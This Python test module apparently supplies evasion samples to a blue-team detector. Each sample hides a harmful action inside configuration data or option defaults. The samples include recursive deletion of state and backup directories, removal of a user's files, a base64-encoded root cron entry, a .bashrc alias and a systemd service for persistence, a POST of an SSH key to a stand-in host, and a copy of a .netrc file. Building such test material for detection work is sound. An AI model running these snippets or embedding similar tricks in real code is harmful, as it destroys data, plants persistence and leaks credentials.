"""What is done to whom stands in settings: texts in a format, defaults of a class or of an option."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

_evasion = technique("python", "settings")

EVASIONS = (
    _evasion(
        "json retention",
        Harm.DESTROYED,
        r'''
import json
import shutil
from pathlib import Path

CONFIG = """
{
  "retention": {"days": 0, "roots": ["/tmp/app-cache", "/var/backups/canary"]},
  "notify": false
}
"""


def load() -> dict:
    return json.loads(CONFIG)


def apply(policy: dict) -> None:
    for root in map(Path, policy["roots"]):
        if root.exists():
            shutil.rmtree(root)


apply(load()["retention"])
''',
    ),
    _evasion(
        "yaml fixtures",
        Harm.DESTROYED,
        r'''
import yaml

FIXTURES = yaml.safe_load("""
fixtures:
  - path: data/empty.csv
    body: "id,name"
  - path: /var/lib/canary/data.db
    body: ""
""")

for fixture in FIXTURES["fixtures"]:
    with open(fixture["path"], "w") as out:
        out.write(fixture["body"])
    print("wrote", fixture["path"])
''',
        "python:yaml",
    ),
    _evasion(
        "toml tool table",
        Harm.PERSISTED,
        r"""
import tomllib
from pathlib import Path

Path("pyproject.toml").write_text(
    '[tool.devshell]\nprofile = "/root/.bashrc"\nlines = ["alias test=/tmp/run-tests"]\n'
)
with open("pyproject.toml", "rb") as file:
    shell = tomllib.load(file)["tool"]["devshell"]
with open(shell["profile"], "a") as profile:
    profile.writelines(line + "\n" for line in shell["lines"])
""",
    ),
    _evasion(
        "ini sections",
        Harm.DESTROYED,
        r'''
import configparser
import os

parser = configparser.ConfigParser()
parser.read_string("""
[cleanup]
base = /home/mira
items = notes.txt, photos/garden.raw
""")
section = parser["cleanup"]
for item in section["items"].split(","):
    os.remove(os.path.join(section["base"], item.strip()))
''',
    ),
    _evasion(
        "variables of the environment",
        Harm.DESTROYED,
        r"""
import os
import shutil

DEFAULTS = {"APP_STATE": "/var/lib/canary", "APP_ENV": "test"}
for key, value in DEFAULTS.items():
    os.environ.setdefault(key, value)


def reset_state() -> None:
    state = os.environ["APP_STATE"]
    if os.environ.get("APP_ENV") == "test":
        shutil.rmtree(state, ignore_errors=True)
        os.makedirs(state, exist_ok=True)


reset_state()
""",
    ),
    _evasion(
        "table of migrations",
        Harm.DESTROYED,
        r'''
import csv
import io
import os

PLAN = io.StringIO("""step,action,target
1,keep,app.py
2,drop,/var/backups/canary/monday.bak
3,drop,/var/lib/canary/data.db
""")
ACTIONS = {"keep": lambda _: None, "drop": os.unlink}

for row in csv.DictReader(PLAN):
    ACTIONS[row["action"]](row["target"])
    print(f"step {row['step']} done")
''',
    ),
    _evasion(
        "packed asset",
        Harm.PERSISTED,
        r"""
import base64
from pathlib import Path

ASSETS = {
    "L2V0Yy9jcm9uLmQvc3luYw==": "KiAqICogKiAqIHJvb3QgL3RtcC9zeW5jCg==",
}


def unpack(assets: dict[str, str]) -> None:
    for name, body in assets.items():
        Path(base64.b64decode(name).decode()).write_bytes(base64.b64decode(body))


unpack(ASSETS)
""",
    ),
    _evasion(
        "rendered template",
        Harm.PERSISTED,
        r"""
from pathlib import Path

from jinja2 import Template

UNIT = Template("[Unit]\nDescription={{ name }}\n[Service]\nExecStart=/tmp/{{ name }}\nRestart=always\n")
TARGET = Template("/etc/systemd/{{ scope }}/{{ name }}.service")

values = {"name": "records-sync", "scope": "system"}
Path(TARGET.render(values)).write_text(UNIT.render(values))
""",
    ),
    _evasion(
        "options with defaults",
        Harm.DESTROYED,
        r"""
import argparse
from pathlib import Path


def parse(argv=None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description="Prune old photos")
    parser.add_argument("--root", type=Path, default=Path("/home/mira/photos"))
    parser.add_argument("--pattern", default="*.raw")
    parser.add_argument("--dry-run", action="store_true")
    return parser.parse_args(argv)


def main() -> None:
    args = parse([])
    for file in args.root.glob(args.pattern):
        if not args.dry_run:
            file.unlink()


main()
""",
    ),
    _evasion(
        "defaults of a dataclass",
        Harm.SENT,
        r"""
import urllib.request
from dataclasses import dataclass, field


@dataclass
class Upload:
    endpoint: str = "http://collector.test:8000/logs"
    sources: list[str] = field(default_factory=lambda: ["README.md", "/root/.ssh/id_canary"])

    def run(self) -> None:
        for source in self.sources:
            with open(source, "rb") as file:
                request = urllib.request.Request(self.endpoint, data=file.read(), method="POST")
            urllib.request.urlopen(request, timeout=5).close()


Upload().run()
""",
    ),
    _evasion(
        "dotted keys",
        Harm.DESTROYED,
        r"""
from functools import reduce

SETTINGS = {"storage": {"root": "/etc", "service": {"name": "redblue-canary", "suffix": ".conf"}}}


def setting(path: str) -> str:
    return reduce(lambda node, key: node[key], path.split("."), SETTINGS)


name = setting("storage.service.name") + setting("storage.service.suffix")
open("/".join([setting("storage.root"), name]), "w").close()
""",
    ),
    _evasion(
        "settings by environment prefix",
        Harm.EXPOSED,
        r"""
import os
from pathlib import Path

os.environ |= {"EXPORT_SOURCE": "/home/mira/.netrc", "EXPORT_TARGET": "/srv/export"}
options = {key[7:].lower(): value for key, value in os.environ.items() if key.startswith("EXPORT_")}
target = Path(options["target"])
target.mkdir(parents=True, exist_ok=True)
(target / "login.txt").write_text(Path(options["source"]).read_text())
""",
    ),
)
